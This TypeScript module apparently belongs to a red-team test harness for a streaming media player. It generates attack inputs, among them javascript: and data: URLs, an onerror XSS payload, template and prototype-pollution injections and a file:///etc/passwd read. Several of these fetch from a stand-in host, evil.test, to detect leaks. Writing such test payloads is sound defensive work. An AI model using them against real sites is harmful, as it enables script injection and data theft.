import { urlDisguises } from '../cases/url-disguises.js';
import { inheritedNames } from '../cases/prototypes.js';
import type { Random } from './random.js';

/** One attack value. The text contains the id of the case, so that a request to a third party reveals its case. */
export interface Attack {
  readonly name: string;
  readonly text: (id: string) => string;
}

/** Returns the third-party host of one case. */
export const thirdPartyHost = (id: string): string => `${id}.evil.test`;
const segmentPath = (id: string): string => `/media/cmaf/video-240/1.m4s?case=${id}`;

const constantAttacks = (list: readonly (readonly [name: string, text: string])[]): Attack[] =>
  list.map(([name, text]) => ({ name, text: () => text }));
const hostAttacks = (list: readonly (readonly [name: string, text: (host: string, id: string) => string])[]): Attack[] =>
  list.map(([name, text]) => ({ name, text: (id) => text(thirdPartyHost(id), id) }));

const schemes = hostAttacks([
  ['javascript:', (host) => `javascript:fetch("https://${host}/script")`],
  ['javascript: after a space and a tab', (host) => ` java\tscript:fetch("https://${host}/script")`],
  ['data: with an HTML page', (host) => `data:text/html,<img src=https://${host}/image.png>`],
  ['data: with a playlist', (host) => `data:application/vnd.apple.mpegurl,%23EXTM3U%0A%23EXTINF:1,%0Ahttps://${host}/1.m4s`],
  ['blob:', (host) => `blob:https://${host}/0b3c6a2e-0000-4000-8000-000000000000`],
  ['filesystem:', (host) => `filesystem:https://${host}/temporary/1.m4s`],
  ['file:', () => 'file:///etc/passwd'],
  ['ftp:', (host) => `ftp://${host}/1.m4s`],
  ['wss:', (host) => `wss://${host}/socket`],
  ['about:', () => 'about:srcdoc']
]);

const markup = hostAttacks([
  ['an image', (host) => `<img src="https://${host}/image.png">`],
  ['a handler', (host) => `"><img src=x onerror='fetch("https://${host}/handler")'>`],
  ['a style', (host) => `<style>*{background:url(https://${host}/style.png)}</style>`],
  ['a URL in a style', (host) => `red;background-image:url(https://${host}/style.png)`],
  ['a template', (host) => `\${fetch("https://${host}/template")}{{constructor.constructor("fetch('https://${host}/template')")()}}`],
  ['an entity', (host) => `&lt;img src=https://${host}/image.png&gt;&evil;`],
  ['another line', (host) => `x\n#EXT-X-MAP:URI="https://${host}/init.mp4"\nhttps://${host}/1.m4s`],
  ['a JSON', (host) => `{"__proto__":{"polluted":1},"url":"https://${host}/json"}`]
]);

const sizes = constantAttacks([
  ['nothing', ''],
  ['a space', ' '],
  ['64 kB', 'a'.repeat(65_536)],
  ['64 kB of slashes', '/'.repeat(65_536)],
  ['64 kB of numbers', '9'.repeat(65_536)],
  ['zero', '0'],
  ['a negative number', '-1'],
  ['more than a double can hold', '1e999'],
  ['more than a safe integer', '9007199254740993'],
  ['not a number', 'NaN'],
  ['Infinity', 'Infinity'],
  ['an infinite duration', 'PT99999999999999999999S'],
  ['a date out of range', '+275760-09-13T00:00:00.001Z'],
  ['a template with a width', '$Number%099d$'],
  ['a template that contains itself', '$RepresentationID$$RepresentationID$']
]);

const controls = constantAttacks([
  ['a null', 'a\0b'],
  ['a bell', 'a\u0007b'],
  ['an escape', '\u001b[2J'],
  ['line ends', 'a\r\nb\rc\nd'],
  ['tabs', '\t\t'],
  ['a line separator', 'a\u2028b\u2029c'],
  ['a byte order mark', '\ufeffa'],
  ['a change of text direction', '\u202ea\u202d'],
  ['an unpaired surrogate', '\ud800'],
  ['no character', '\uffff'],
  ['a run of combining marks', `a${'\u0301'.repeat(200)}`]
]);

/** The attack values by their kind. */
export const attacksByKind: Readonly<Record<string, readonly Attack[]>> = {
  prototype: constantAttacks(inheritedNames.map((name) => [name, name] as const)),
  url: urlDisguises.map(([name, write]) => ({ name, text: (id) => write(thirdPartyHost(id), segmentPath(id)) })),
  scheme: schemes,
  markup,
  size: sizes,
  control: controls
};

/**
 * The number of values for one slot: by default three, of every other kind, beginning with the next kind in each slot; with
 * `RED_TEAM_DRAWS=6`, one of each kind.
 */
const attacksPerSlot = Number(process.env['RED_TEAM_DRAWS'] ?? 3);

/** Returns random attack values for the slot with this index, at most `maxAttacks`. */
export function drawAttacks(random: Random, slotIndex: number, maxAttacks = attacksPerSlot): Attack[] {
  const kinds = Object.values(attacksByKind);
  return Array.from({ length: Math.min(attacksPerSlot, maxAttacks) }, (_, index) =>
    random.pick(kinds[(slotIndex + (attacksPerSlot < kinds.length ? 2 * index : index)) % kinds.length]!)
  );
}
